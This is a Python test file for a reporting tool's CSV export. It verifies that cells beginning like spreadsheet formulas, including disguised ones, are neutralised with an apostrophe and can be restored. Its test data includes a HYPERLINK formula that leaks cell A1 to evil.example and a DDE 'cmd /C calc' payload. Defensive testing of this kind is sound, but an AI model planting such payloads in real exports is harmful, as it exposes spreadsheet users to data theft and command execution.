"""No formula runs in a table that we wrote, whatever the names in it are; and nothing in it is lost."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from syndicate.cli.ui.output import Output
from syndicate.cli.ui.report_tables import Sheet
from syndicate.cli.ui.spreadsheet import csv_bytes, harmless, runs
from syndicate.language import Lang, Text
from syndicate.model.item import Medium
from syndicate.model.names import OutletId, PartnerId
from syndicate.model.parties import Partner
from syndicate.model.rights import Window
from syndicate.model.statement import Account, Balance, Row
from syndicate.services.reports.report_service import Report
from tests.support.factories import PUBLISHER

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
SPAN = Window(datetime(2026, 10, 31, 16, tzinfo=UTC), datetime(2026, 11, 30, 16, tzinfo=UTC))
SIGNS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫−"
BEFORE = " \"'“”‘’「」\ufeff\u200b\u200c\u200d\u2060\u00a0\u3000\u00ad\x00\x1f\u202e\ufe0f\u3164"

# The rule once more, in other words: what comes first, behind all that is passed over.
RUNS = re.compile(rf"[\s{re.escape(BEFORE)}]*[{re.escape(SIGNS)}]")
hostile = st.builds(
    "{}{}{}".format, st.text(BEFORE, max_size=3), st.sampled_from(SIGNS), st.text(max_size=8)
)
split = st.builds("{}{}{}".format, st.text("浙江a", max_size=3), st.sampled_from(";\t\r\n"), hostile)
plain = st.from_regex(r"\A[\w《（][\w ,'\"（）=+@-]*\Z")
anything = st.one_of(hostile, split, plain, st.text())


def read_back(content: bytes) -> list[list[str | float]]:
    """As a program reads it: what is not in quotes is a number."""
    assert content.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    reader: Any = csv.reader(text, strict=True, quoting=csv.QUOTE_NONNUMERIC)
    return list(reader)


def is_safe(cell: str | float) -> bool:
    """No part that some spreadsheet may take for a cell of its own begins as a formula does."""
    if not isinstance(cell, str):
        return True
    parts = [cell, *re.findall(r"(?<=[;\t\r\n])[^;\t\r\n]+", cell)]
    return all(part.startswith("'") or not RUNS.match(part) for part in parts)


def freed(cell: str) -> str:
    """The text without the apostrophes that were put before formulas, for who wants the name again."""

    def plain(part: str) -> str:
        return part[1:] if part.startswith("'") and runs(part[1:]) else part

    # The whole cell was marked last, so it is freed first.
    return re.sub(r"(?<=[;\t\r\n])[^;\t\r\n]+", lambda part: plain(part[0]), plain(cell))


@given(hostile)
@example(FORMULA)
@example("-2+3+cmd|' /C calc'!A0")
@example("\ufeff=1")
@example("＝1")
@example("'=1")
@example("@SUM(1)")
@example("\t=1")
def test_what_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text).startswith("'")
    ((cell,),) = read_back(csv_bytes([[text]]))
    assert is_safe(cell)


@given(split)
@example("浙江;=1+1")
@example("浙江\n=1+1")
def test_a_formula_behind_a_sign_that_divides_cells_gets_one_too(text: str) -> None:
    ((cell,),) = read_back(csv_bytes([[text]]))
    assert is_safe(cell)


@given(plain)
@example("XSW-2026-017#1")
@example("浙江在线")
@example("a=b, c+d")
def test_what_begins_with_a_letter_is_left_as_it_is(text: str) -> None:
    assert read_back(csv_bytes([[text]])) == [[text]]


@given(st.lists(st.lists(st.one_of(anything, st.integers(-(10**6), 10**6)), min_size=2, max_size=4)))
def test_every_cell_comes_back_numbers_as_numbers(rows: list[list[str | int]]) -> None:
    read = read_back(csv_bytes(rows))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for written, row in zip(rows, read, strict=True):
        for cell, again in zip(written, row, strict=True):
            assert is_safe(again)
            assert again == (cell if isinstance(cell, int) else harmless(cell))


@given(anything)
@example("'=1")
@example("")
@example("\x1b=")
def test_the_name_can_be_had_from_the_cell_again(text: str) -> None:
    ((cell,),) = read_back(csv_bytes([[text]]))
    assert isinstance(cell, str)
    assert freed(cell) == text


def test_lines_end_as_the_format_says_and_a_negative_number_is_no_text() -> None:
    assert csv_bytes([["净数", "n"], [FORMULA, -3]]) == (
        b"\xef\xbb\xbf"
        + '"净数","n"\r\n"\'=HYPERLINK(""https://evil.example/?""&A1,""点我"")",-3\r\n'.encode()
    )


def a_sheet(row: Row, name: str, *, finely: bool = False, lines: bool = False) -> Sheet:
    partners = {row.account.partner: Partner(row.account.partner, name)}
    report = Report(SPAN, provisional=False, line=9, rows=(row,))
    heading = [(Text("月份", "month"), "2026-11")]
    voice = Output(Lang.ZH, json=False)
    return Sheet(report, heading, partners, PUBLISHER, voice, finely=finely, lines=lines)


@given(anything, anything, anything, anything, anything, st.booleans())
def test_a_statement_of_hostile_names_is_safe(
    owner: str, partner: str, name: str, outlet: str, clause: str, finely: bool
) -> None:
    account = Account(owner, Medium.TEXT, PartnerId(partner), OutletId(outlet), clause)
    sheet = a_sheet(
        Row(account, Balance(2, 7, 0 if finely else 1), (3, 12)), name, finely=finely, lines=True
    )
    header, row, subtotal, total = read_back(sheet.csv())
    assert len(header) == len(row) == len(subtotal) == len(total)
    assert all(is_safe(cell) for cell in (*header, *row, *subtotal, *total))
    column = header.index("净数")
    assert row[column] == subtotal[column] == total[column] == (-5 if finely else -4)
    assert {harmless(owner), harmless(partner), harmless(name)} <= set(row)


@pytest.mark.parametrize("finely", [False, True])
def test_rows_say_what_they_are_and_of_what_span(finely: bool) -> None:
    account = Account("萧山日报社", None, PartnerId("zjol"), None, "XSW-1#1" if finely else "")
    rows = read_back(a_sheet(Row(account, Balance(3, 1, 0 if finely else 1)), FORMULA, finely=finely).csv())
    assert [row[:3] for row in rows] == [
        ["行", "月份", "状态"],
        ["明细", "2026-11", "已完"],
        ["小计", "2026-11", "已完"],
        ["合计", "2026-11", "已完"],
    ]
    item = dict(zip(rows[0], rows[1], strict=True))
    assert item["名称"] == f"'{FORMULA}"
    assert item["类型"] == "未知"
    assert item["净数"] == (2 if finely else 3)
    assert ("恢复" in item) is not finely
    assert item.get("条款") == ("XSW-1#1" if finely else None)
